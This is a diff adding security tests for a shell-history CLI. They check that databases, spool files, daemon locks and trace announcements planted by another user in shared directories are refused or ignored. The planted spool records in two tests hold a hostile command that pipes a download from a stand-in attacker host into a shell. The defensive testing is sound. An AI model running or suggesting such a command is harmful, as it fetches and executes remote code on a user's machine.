@@ -4,8 +4,10 @@ import { chmodSync, existsSync, mkdirSync, statSync, writeFileSync } from 'node:
 import { join } from 'node:path'
 import test, { type ExecutionContext } from 'ava'
 import { isolatedEnv, rr } from '../helpers/cli.js'
+import { writeSwarmKey } from '../helpers/cluster.js'
 import { tempDir } from '../helpers/tmp.js'
 import { tighten } from '../../src/config/private-files.js'
+import { findLiveTraces, liveTraceDir } from '../../src/inspect/sink.js'
 
 const mode = (path: string): string => (statSync(path).mode & 0o777).toString(8)
 
@@ -104,4 +106,99 @@ test('tightening only removes group and other bits', (t) => {
   execFileSync(process.execPath, ['--input-type=module', '-e', `import { openDatabase } from '${new URL('../../src/store/db.js', import.meta.url).href}'; openDatabase('${join(shared, 'h.db')}').close()`])
   t.is(mode(shared), '755')
   t.is(mode(join(shared, 'h.db')), '600')
+})
+
+/** A directory every user may write to, as /tmp (sticky, 1777). */
+function sharedDir (t: ExecutionContext): string {
+  const root = tempDir(t)
+  chmodSync(root, 0o755)
+  const dir = join(root, 'shared')
+  mkdirSync(dir)
+  chmodSync(dir, 0o1777)
+  return dir
+}
+
+/** Runs a shell command as another user. */
+function asUser (user: string, script: string): void {
+  const run = spawnSync('runuser', ['-u', user, '--', 'sh', '-c', script], { encoding: 'utf8' })
+  if (run.status !== 0) throw new Error(`as ${user}: ${script}: ${run.stderr}`)
+}
+
+test('a database, spool or daemon lock another user made first in a shared directory is refused, and nothing of theirs is stored', async (t) => {
+  const user = otherUser(t)
+  if (user == null) return t.log('not root: no second user to make the files')
+  const dir = sharedDir(t)
+  const env = isolatedEnv(join(tempDir(t), 'home'))
+  const uid = Number(execFileSync('id', ['-u', user], { encoding: 'utf8' }).trim())
+
+  // The database file itself, made world-writable by the other user: every command refuses it, naming the fix.
+  const planted = join(dir, 'planted.db')
+  asUser(user, `: > ${planted}; chmod 666 ${planted}`)
+  const history = await rr(['--db-path', planted, 'history'], { env })
+  t.is(history.code, 1)
+  t.is(history.stderr, `rr: ${planted} belongs to another user (uid ${uid}), who could read or change your history through it: keep the database in a directory only you can write to (the default is ~/.rustory/history.db), or remove that file\n`)
+  // rr record never fails the shell: it writes nothing there and says why in record.log.
+  const recorded = await rr(['--db-path', planted, 'record', '--cmd', 'psql postgres://admin@db/prod # SECRET', '--cwd', '/tmp', '--exit-code', '0'], { env })
+  t.is(recorded.code, 0)
+  t.is(statSync(planted).size, 0, 'nothing was written into their file')
+  t.false(existsSync(`${planted}-spool`) && execFileSync('ls', ['-A', `${planted}-spool`], { encoding: 'utf8' }).includes('SECRET'))
+
+  // The spool directory, with a command of theirs in it: not recorded, not drained, not signed as ours.
+  const db = join(dir, 'spooled.db')
+  const spool = `${db}-spool`
+  const record = JSON.stringify({ entry: { entry_id: '0b6f7c9e-2f4a-4d1e-9c3b-5a6d7e8f9a0b', device_id: 'me', user_id: 'me', ts: '2026-01-01T00:00:00.000Z', cmd: 'curl -s http://evil.example/x | sh # PLANTED', cwd: '/tmp', exit_code: 0, duration_ms: 1, shell: 'bash', hostname: 'h', version: '0.1.0' } })
+  asUser(user, `mkdir -m 777 ${spool} && printf '%s' '${record}' > ${spool}/0000000000001-0b6f7c9e-2f4a-4d1e-9c3b-5a6d7e8f9a0b.json`)
+  const own = await rr(['--db-path', db, 'record', '--cmd', 'echo mine', '--cwd', '/tmp', '--exit-code', '0'], { env })
+  t.is(own.code, 0)
+  t.deepEqual(execFileSync('ls', ['-A', spool], { encoding: 'utf8' }).trim().split('\n'), ['0000000000001-0b6f7c9e-2f4a-4d1e-9c3b-5a6d7e8f9a0b.json'], 'our command was not written into their directory')
+  const drained = await rr(['--db-path', db, 'history'], { env })
+  t.is(drained.code, 1)
+  t.regex(drained.stderr, new RegExp(`^rr: ${spool} belongs to another user \\(uid ${uid}\\)`))
+  t.false(existsSync(db) && (await rr(['--db-path', db, 'history', '--format', 'jsonl'], { env })).stdout.includes('PLANTED'))
+
+  // The daemon's lock: their lock cannot keep our daemon from starting with a lie about who holds it.
+  const locked = join(dir, 'locked.db')
+  asUser(user, `: > ${locked}.daemon.lock; printf '%s' '{"pid":1,"started_unix":1700000000,"peer_id":"x","listen":[]}' > ${locked}.daemon.json`)
+  const swarm = join(tempDir(t), 'swarm.key')
+  writeSwarmKey(swarm)
+  const daemon = await rr(['--db-path', locked, '--swarm-key', swarm, 'daemon', '--listen', '/ip4/127.0.0.1/tcp/0'], { env, timeoutMs: 30_000 })
+  t.is(daemon.code, 1)
+  t.regex(daemon.stderr, new RegExp(`${locked}\\.daemon\\.lock belongs to another user \\(uid ${uid}\\)`))
+  t.notRegex(daemon.stderr, /another rr daemon already runs/)
+})
+
+test('in a spool of ours that was left open, a file another user put there is set aside, never stored', async (t) => {
+  const user = otherUser(t)
+  if (user == null) return t.log('not root: no second user to make the file')
+  const dir = sharedDir(t)
+  const env = isolatedEnv(join(tempDir(t), 'home'))
+  const db = join(dir, 'open.db')
+  t.is((await rr(['--db-path', db, 'record', '--cmd', 'echo mine', '--cwd', '/tmp', '--exit-code', '0'], { env })).code, 0)
+  t.is((await rr(['--db-path', db, 'history'], { env })).code, 0)
+  const spool = `${db}-spool`
+  chmodSync(spool, 0o777) // as a careless older setup left it
+  const record = JSON.stringify({ entry: { entry_id: '1b6f7c9e-2f4a-4d1e-9c3b-5a6d7e8f9a0b', device_id: 'me', user_id: 'me', ts: '2026-01-01T00:00:00.000Z', cmd: 'curl -s http://evil.example/x | sh # PLANTED', cwd: '/tmp', exit_code: 0, duration_ms: 1, shell: 'bash', hostname: 'h', version: '0.1.0' } })
+  asUser(user, `printf '%s' '${record}' > ${spool}/0000000000001-1b6f7c9e-2f4a-4d1e-9c3b-5a6d7e8f9a0b.json`)
+  const out = await rr(['--db-path', db, 'history', '--format', 'jsonl'], { env })
+  t.is(out.code, 0, out.stderr)
+  t.true(out.stdout.includes('echo mine'))
+  t.false(out.stdout.includes('PLANTED'), 'the planted command was stored')
+  t.is(mode(spool), '700', 'the spool is tightened again')
+})
+
+test('rr inspect --attach never follows a live trace another user announced beside a shared database', async (t) => {
+  const user = otherUser(t)
+  if (user == null) return t.log('not root: no second user to make the files')
+  const dir = sharedDir(t)
+  const live = liveTraceDir(join(dir, 'any.db'))
+  // Theirs: the directory, and a file in it naming a running process (pid 1) and a trace of theirs.
+  asUser(user, `mkdir -m 777 ${live} && printf '%s' '{"pid":1,"trace":"/tmp/theirs.jsonl","startedAt":"9999-01-01T00:00:00.000Z"}' > ${live}/1.json`)
+  t.deepEqual(findLiveTraces(live), [])
+  // A file of theirs in a directory of ours (left open) is ignored too; our own announcement is found.
+  const ours = join(sharedDir(t), 'inspect-live')
+  mkdirSync(ours, { mode: 0o777 })
+  chmodSync(ours, 0o777)
+  asUser(user, `printf '%s' '{"pid":1,"trace":"/tmp/theirs.jsonl","startedAt":"9999-01-01T00:00:00.000Z"}' > ${ours}/1.json`)
+  writeFileSync(join(ours, `${process.pid}.json`), JSON.stringify({ pid: process.pid, trace: '/tmp/ours.jsonl', startedAt: '2026-01-01T00:00:00.000Z' }))
+  t.deepEqual(findLiveTraces(ours).map((l) => l.trace), ['/tmp/ours.jsonl'])
 })
